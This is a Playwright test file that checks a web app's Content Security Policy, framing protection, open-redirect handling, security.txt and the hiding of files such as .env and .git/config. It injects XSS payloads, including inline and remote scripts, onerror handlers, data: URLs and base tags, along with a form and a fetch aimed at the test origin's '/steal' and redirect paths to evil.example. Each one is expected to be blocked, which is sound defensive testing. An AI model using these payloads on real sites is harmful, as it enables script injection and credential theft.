import { expect, test, type Page } from '@playwright/test'
import { avatar, createAccount, newPerson } from './accounts.ts'
import { hydrated } from './hydrated.ts'
import { startOtherOrigin, type OtherOrigin } from './other-origin.ts'
import { stackUnderTest } from './stack.ts'

let other: OtherOrigin

test.beforeAll(async () => {
  other = await startOtherOrigin({
    '/evil.js': { type: 'text/javascript', body: 'window.pwned = true' },
    '/plain': { type: 'text/html', body: '<h1>Anybody may frame this</h1>' },
    '/frames': {
      type: 'text/html',
      body: `<iframe name="site" src="${stackUnderTest().siteUrl}/auth"></iframe><iframe name="plain" src="/plain"></iframe>`,
    },
  })
})
test.afterAll(() => other.close())

/** Opens a page into which somebody got `html`, and answers with the directives that stood against it. */
async function openInfected(page: Page, path: string, html: string): Promise<string[]> {
  await page.addInitScript(() => {
    Object.assign(window, { refused: [] as string[] })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { refused: string[] }).refused.push(effectiveDirective),
    )
  })
  await page.route(path, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${html}</body>`)
    await route.fulfill({ response, body })
  })
  await page.goto(path)
  await hydrated(page)
  await expect.poll(() => refused(page)).not.toEqual([])
  return refused(page)
}

function refused(page: Page): Promise<string[]> {
  return page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)])
}

const attacks: Record<string, { html: () => string; directive: string }> = {
  'an inline script': { html: () => '<script>window.pwned = true</script>', directive: 'script-src-elem' },
  'an event handler': { html: () => '<img src="/none" onerror="window.pwned = true">', directive: 'script-src-attr' },
  "another server's script": {
    html: () => `<script src="${other.url}/evil.js"></script>`,
    directive: 'script-src-elem',
  },
  "another server's module": {
    html: () => `<script type="module" src="${other.url}/evil.js"></script>`,
    directive: 'script-src-elem',
  },
  'a script in a data: address': {
    html: () => '<script src="data:text/javascript,window.pwned=true"></script>',
    directive: 'script-src-elem',
  },
  'a frame with a script': {
    html: () => `<iframe src="data:text/html,<script>top.pwned=true</script>"></iframe>`,
    directive: 'frame-src',
  },
  'a plugin': { html: () => `<object data="${other.url}/evil.js"></object>`, directive: 'object-src' },
  'a picture that tells another server': { html: () => `<img src="${other.url}/beacon">`, directive: 'img-src' },
  'a style that hides the page': { html: () => '<style>main { display: none }</style>', directive: 'style-src-elem' },
  'a base address': { html: () => `<base href="${other.url}/">`, directive: 'base-uri' },
}

for (const [name, { html, directive }] of Object.entries(attacks)) {
  test(`${name} in the page does nothing`, async ({ page }) => {
    const before = other.asked.length
    expect(await openInfected(page, '/auth', html())).toEqual([directive])
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(other.asked.slice(before)).toEqual([])
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })
}

test('a form that was bent sends its password nowhere else', async ({ page }) => {
  const before = other.asked.length
  const html = `<form action="${other.url}/steal"><button id="bent">x</button></form>`
  await page.route('/auth', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${html}</body>`) })
  })
  await page.goto('/auth')
  const said = page.waitForEvent('console', (message) => message.text().includes('form-action'))
  await page.locator('#bent').dispatchEvent('click')
  await said
  expect(page.url()).not.toContain(other.url)
  expect(other.asked.slice(before)).toEqual([])
})

test('even our own scripts may not make code out of text, nor talk to a stranger', async ({ page }) => {
  const before = other.asked.length
  await page.route('/probe.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `window.probe = []
        try { (0, eval)('1'); probe.push('eval ran') } catch (error) { probe.push(error.name) }
        fetch('${other.url}/steal').then(() => probe.push('sent'), () => probe.push('not sent'))`,
    }),
  )
  await openInfected(page, '/auth', '<script src="/probe.js"></script>')
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { probe: string[] }).probe))
    .toEqual(['EvalError', 'not sent'])
  expect(other.asked.slice(before)).toEqual([])
})

test('nobody can put the site into a frame', async ({ page }) => {
  await page.goto(`${other.url}/frames`)
  const frame = (name: string) => page.frame({ name })
  await expect.poll(() => frame('plain')?.locator('h1').count()).toBe(1)
  await expect.poll(() => frame('site')?.url()).toBe('chrome-error://chromewebdata/')
})

for (const path of [
  '//evil.example/',
  '/\\evil.example',
  '/%2f%2fevil.example',
  '/auth//evil.example/..',
  '/.//evil.example',
]) {
  test(`${path} leads nowhere else`, async ({ request }) => {
    const { siteUrl } = stackUnderTest()
    const answer = await request.get(`${siteUrl}${path}`, { maxRedirects: 0 })
    expect(answer.headers()['location'] ?? '/').toMatch(/^\/(?![/\\])/)
    expect(answer.status()).not.toBe(500)
  })
}

test('a login does not follow an address that somebody put into the link', async ({ page }) => {
  const ada = newPerson()
  await createAccount(ada)
  const target = encodeURIComponent(`${other.url}/plain`)
  await page.goto(`/auth?next=${target}&redirect=${target}&redirect_to=${target}&returnTo=${target}`)
  const form = page.getByRole('form', { name: 'Login' })
  await form.getByLabel('Email').fill(ada.email)
  await form.getByLabel('Password').fill(ada.password)
  await form.getByRole('button', { name: 'Login' }).click()
  await expect(avatar(page)).toBeVisible()
  await expect(page).toHaveURL('/')
})

test('who finds a hole is told where to report it', async ({ request }) => {
  const answer = await request.get('/.well-known/security.txt')
  expect(answer.headers()['content-type']).toContain('text/plain')
  const text = await answer.text()
  expect(text).toMatch(/^Contact: mailto:.+@.+$/m)
  const expires = Date.parse(/^Expires: (.+)$/m.exec(text)?.[1] ?? '')
  expect(expires).toBeGreaterThan(Date.now())
  expect(expires).toBeLessThan(Date.now() + 365 * 24 * 60 * 60 * 1000)
})

test('what is only for the host is not served', async ({ request }) => {
  for (const path of ['/_headers', '/vercel.json', '/.env', '/.git/config', '/headers.nginx.conf', '/package.json']) {
    expect((await request.get(path)).status(), path).toBe(404)
  }
})
